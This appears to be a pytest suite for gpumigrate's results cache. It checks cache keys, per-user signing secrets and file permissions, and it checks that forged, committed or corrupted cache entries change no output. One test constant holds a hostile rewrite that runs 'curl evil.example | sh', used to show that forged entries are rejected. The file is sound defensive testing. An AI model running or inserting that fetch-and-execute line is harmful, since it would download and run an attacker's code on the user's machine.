"""The results cache: re-runs over unchanged files take their results from it, nothing a result
depends on is left out of its key, and nothing a repository holds can change what a command
prints or writes: the cache lives outside the project, its entries are signed with a secret
of the user's, and a verified entry still passes a fresh result's checks."""

import base64
import json
import os
import shutil
import stat

import pytest
from click.testing import CliRunner

from gpumigrate.cli import main
from gpumigrate.rewriter import cache as cache_module

SCRIPT = "import torch\nmodel = torch.nn.Linear(2, 2).cuda()\n"
MESSAGE = "`.cuda()` hard-codes the device"
ATTACK = "import os\nos.system('curl evil.example | sh')\n"


@pytest.fixture
def project(tmp_path, monkeypatch):
    """A project with one script; the user's cache folder is a scratch one (XDG_CACHE_HOME)."""
    monkeypatch.delenv("GPUMIGRATE_CACHE_DIR", raising=False)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "home-cache"))
    root = tmp_path / "project"
    root.mkdir()
    (root / "pyproject.toml").write_text("[tool.gpumigrate]\n")
    (root / "train.py").write_text(SCRIPT)
    monkeypatch.chdir(root)
    return root


@pytest.fixture
def cache_root(project):
    return project.parent / "home-cache" / "gpumigrate"


def cli(*args):
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


def entries(folder):
    return sorted(p for p in folder.rglob("*") if p.is_file() and p.parent != folder)


def filled(folder):
    """The entries of a cache the run before filled (none would make an attack test vacuous)."""
    found = entries(folder)
    assert found, f"no cache entries in {folder}"
    return found


def payload(entry):
    return json.loads(entry.read_bytes().partition(b"\n")[2])


def resign(folder, entry, content):
    """Write `content` (bytes of JSON, or an object to dump) into `entry`, signed as the
    cache itself signs: what an attacker who knew the user's secret could forge."""
    data = content if isinstance(content, bytes) else json.dumps(content).encode()
    secret = (folder / "secret").read_bytes()
    key = entry.parent.name + entry.name
    entry.write_bytes(cache_module._mac(secret, key, data) + b"\n" + data)


def commands(root):
    """Every command a repository's cache could try to influence, and what each printed and
    left in the script."""
    out = []
    for args in (["lint", "train.py"], ["lint", "train.py", "--format", "json"], ["train.py", "--diff"],
                 ["train.py", "--check"], ["lint", "train.py", "--fix", "--diff"]):
        result = cli(*args)
        out.append((args, result.exit_code, result.output))
    return out


def test_a_rerun_takes_its_results_from_the_cache(project, cache_root):
    first = cli("lint", "train.py")
    assert first.exit_code == 1 and MESSAGE in first.output
    assert (cache_root / "CACHEDIR.TAG").exists() and (cache_root / ".gitignore").read_text().endswith("*\n")
    assert not (project / ".gpumigrate_cache").exists() and sorted(p.name for p in project.iterdir()) == [
        "pyproject.toml", "train.py"]
    (entry,) = entries(cache_root)
    changed = payload(entry)
    changed["findings"][0]["message"] = changed["findings"][0]["message"].replace("hard-codes", "HARD-CODES")
    resign(cache_root, entry, changed)
    assert "HARD-CODES" in cli("lint", "train.py").output  # only a cache hit can print this
    assert MESSAGE in cli("lint", "train.py", "--no-cache").output
    (project / "train.py").write_text(SCRIPT + "x = 1\n")  # new content: a new entry
    assert MESSAGE in cli("lint", "train.py").output and len(entries(cache_root)) == 2


def test_the_cache_and_its_secret_are_this_user_s_alone(project, cache_root):
    cli("lint", "train.py")
    secret = cache_root / "secret"
    assert len(secret.read_bytes()) == 32 and stat.S_IMODE(secret.stat().st_mode) == 0o600
    assert stat.S_IMODE(cache_root.stat().st_mode) == 0o700


def test_other_rules_are_another_entry(project, cache_root):
    cli("lint", "train.py")
    cli("lint", "train.py", "--select", "GM1")
    assert len(entries(cache_root)) == 2


def test_what_a_result_depends_on_is_in_its_key(monkeypatch):
    from gpumigrate.codemods import rules_for, fixed_codes
    from gpumigrate.rewriter.cache import Cache, run_key

    rules = tuple(rules_for("ddp"))

    def key(rules, fix, options, repairs):
        return run_key([(rules, fix)], options, repairs)

    base = key(rules, fixed_codes("ddp"), {"sync_bn": False}, ())
    assert base == key(rules, list(reversed(fixed_codes("ddp"))), {"sync_bn": False}, ())
    others = [key(rules[:-1], fixed_codes("ddp"), {"sync_bn": False}, ()),
              key(rules, fixed_codes("device"), {"sync_bn": False}, ()),
              key(rules, fixed_codes("ddp"), {"sync_bn": True}, ()),
              key(rules, fixed_codes("ddp"), {"sync_bn": False}, None),
              run_key([(rules[:5], fixed_codes("ddp")), (rules[5:], fixed_codes("ddp"))], {"sync_bn": False}, ())]
    assert len({base, *others}) == 6
    cache = Cache("unused")
    assert cache.key(base, "a.py", b"x") == cache.key(base, "b/c.py", b"x")  # the name is not the content
    assert len({cache.key(base, "a.py", b"x"), cache.key(base, "a.ipynb", b"x"), cache.key(base, "a.py", b"y"),
                cache.key(others[0], "a.py", b"x")}) == 4
    # another Python: a file 3.12 compiles, 3.11 may refuse
    cache_module.code_fingerprint.cache_clear()
    monkeypatch.setattr(cache_module.sys, "version", "3.99.0 (elsewhere)")
    try:
        assert key(rules, fixed_codes("ddp"), {"sync_bn": False}, ()) != base
    finally:
        monkeypatch.undo()
        cache_module.code_fingerprint.cache_clear()


def test_a_damaged_or_deleted_cache_is_recomputed(project, cache_root):
    cli("lint", "train.py")
    for entry in filled(cache_root):
        entry.write_text("{not json")
    assert MESSAGE in cli("lint", "train.py").output
    for entry in entries(cache_root):
        resign(cache_root, entry, {"findings": [{"bogus": 1}], "new_source": None})
    assert MESSAGE in cli("lint", "train.py").output
    shutil.rmtree(cache_root)
    assert MESSAGE in cli("lint", "train.py").output


def test_a_cache_folder_we_cannot_write_is_no_error(project, monkeypatch, tmp_path):
    (tmp_path / "blocked").write_text("a file where the folder would go")  # even root cannot
    monkeypatch.setenv("GPUMIGRATE_CACHE_DIR", str(tmp_path / "blocked"))
    result = cli("lint", "train.py")
    assert result.exit_code == 1 and MESSAGE in result.output
    assert result.output.count("\n") == 2  # the finding and the summary: no warning, no traceback


def test_migration_from_the_cache_writes_the_same_file(project, cache_root):
    assert cli("train.py", "--to", "device", "--check").exit_code == 1  # fills the cache
    assert cli("train.py", "--to", "device", "--check").exit_code == 1  # the rewrite's own entry: idempotent
    result = cli("train.py", "--to", "device")
    assert result.exit_code == 0 and "1 file changed" in result.output
    assert ".to(device)" in (project / "train.py").read_text()
    again = cli("train.py", "--to", "device")
    assert "1 unchanged" in again.output


def test_the_cache_folder_can_be_chosen(project, tmp_path, monkeypatch, cache_root):
    elsewhere = tmp_path / "chosen"
    monkeypatch.setenv("GPUMIGRATE_CACHE_DIR", str(elsewhere))
    cli("lint", "train.py")
    assert not cache_root.exists() and entries(elsewhere)


def test_stdin_is_not_cached(project, cache_root):
    result = CliRunner().invoke(main, ["lint", "-", "--stdin-filename", "train.py"], input=SCRIPT)
    assert MESSAGE in result.output and (not cache_root.exists() or not entries(cache_root))


# ---------------------------------------------------------------- a cache a repository brings

def forge(entry, new_source=None, signed=True):
    """An entry as an attacker without the secret writes it: "nothing found", with a rewrite
    or without; unsigned (the old layout) or with a made-up signature."""
    entry.parent.mkdir(parents=True, exist_ok=True)
    data = json.dumps({"findings": [], "new_source": None if new_source is None
                       else base64.b64encode(new_source.encode()).decode()})
    entry.write_text("0" * 64 + "\n" + data if signed else data)


@pytest.mark.parametrize("layout", ["unsigned", "signed"])
def test_a_committed_cache_folder_changes_no_output(project, monkeypatch, tmp_path, layout):
    # Where an attacker puts entries: at the very keys this run uses (they are computed from
    # public facts: the file, the rules, gpumigrate's version), in the folder the cache used
    # to live in, which a repository can commit.
    scratch = tmp_path / "scratch"
    monkeypatch.setenv("GPUMIGRATE_CACHE_DIR", str(scratch))
    honest = commands(project)
    keys = [entry.relative_to(scratch) for entry in filled(scratch)]
    monkeypatch.delenv("GPUMIGRATE_CACHE_DIR")
    committed = project / ".gpumigrate_cache"
    for attack in ({"new_source": ATTACK}, {}):  # a rewrite that runs a shell; "clean, nothing to change"
        for key in keys:
            forge(committed / key, **attack, signed=layout == "signed")
        assert commands(project) == honest
        assert cli("train.py").exit_code == 0
        assert "os.system" not in (project / "train.py").read_text()
        (project / "train.py").write_text(SCRIPT)


def test_forged_entries_are_ignored(project, cache_root, monkeypatch):
    """A folder of the user's choosing that others can write (GPUMIGRATE_CACHE_DIR on a shared
    disk): entries made without the secret never verify, whatever they hold."""
    honest = commands(project)
    for entry in filled(cache_root):
        forge(entry, new_source=ATTACK)  # the attacker has no secret
    assert commands(project) == honest
    for entry in entries(cache_root):
        forge(entry, signed=False)
    assert commands(project) == honest
    for entry in entries(cache_root):  # swapped between keys: each is signed for its own key
        entry.write_bytes(entries(cache_root)[0].read_bytes())
    assert commands(project) == honest
    cli("train.py")
    assert "os.system" not in (project / "train.py").read_text() and ".to(device)" in (project / "train.py").read_text()


@pytest.mark.parametrize("attack", ["rewrite that does not compile", "unknown code", "deep json", "not idempotent"])
def test_a_signed_entry_still_passes_a_fresh_result_s_checks(project, cache_root, attack):
    honest = commands(project)
    for entry in filled(cache_root):
        data = payload(entry)
        if attack == "rewrite that does not compile" and data["new_source"] is not None:
            data["new_source"] = base64.b64encode(b"model = (\n").decode()
        elif attack == "unknown code":
            for finding in data["findings"]:
                finding["code"] = "XX999"
        elif attack == "deep json":
            resign(cache_root, entry, b"[" * 100_000 + b"]" * 100_000)
            continue
        elif attack == "not idempotent" and data["new_source"] is not None:
            data["new_source"] = base64.b64encode((SCRIPT + "x = torch.zeros(1).cuda()\n").encode()).decode()
        resign(cache_root, entry, data)
    assert commands(project) == honest


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "huge", "random"])
@pytest.mark.slow
def test_odd_entries_neither_hang_nor_crash(project, cache_root, kind, tmp_path):
    honest = commands(project)
    for i, entry in enumerate(filled(cache_root)):
        entry.unlink()
        if kind == "fifo":
            os.mkfifo(entry)
        elif kind == "dev-zero":
            entry.symlink_to("/dev/zero")
        elif kind == "huge":
            with open(entry, "wb") as handle:
                handle.truncate(cache_module.MAX_ENTRY_BYTES + 1)
        else:
            entry.write_bytes(os.urandom(64 + 97 * i))
    assert commands(project) == honest


def test_a_secret_others_could_read_or_write_turns_the_cache_off(project, cache_root):
    honest = commands(project)
    secret = cache_root / "secret"
    os.chmod(secret, 0o644)
    for entry in filled(cache_root):
        data = payload(entry)
        for finding in data["findings"]:
            finding["message"] = "FORGED"
        resign(cache_root, entry, data)  # signed with the secret that others could read
    assert commands(project) == honest
    secret.unlink()
    secret.symlink_to(project / "train.py")
    assert commands(project) == honest
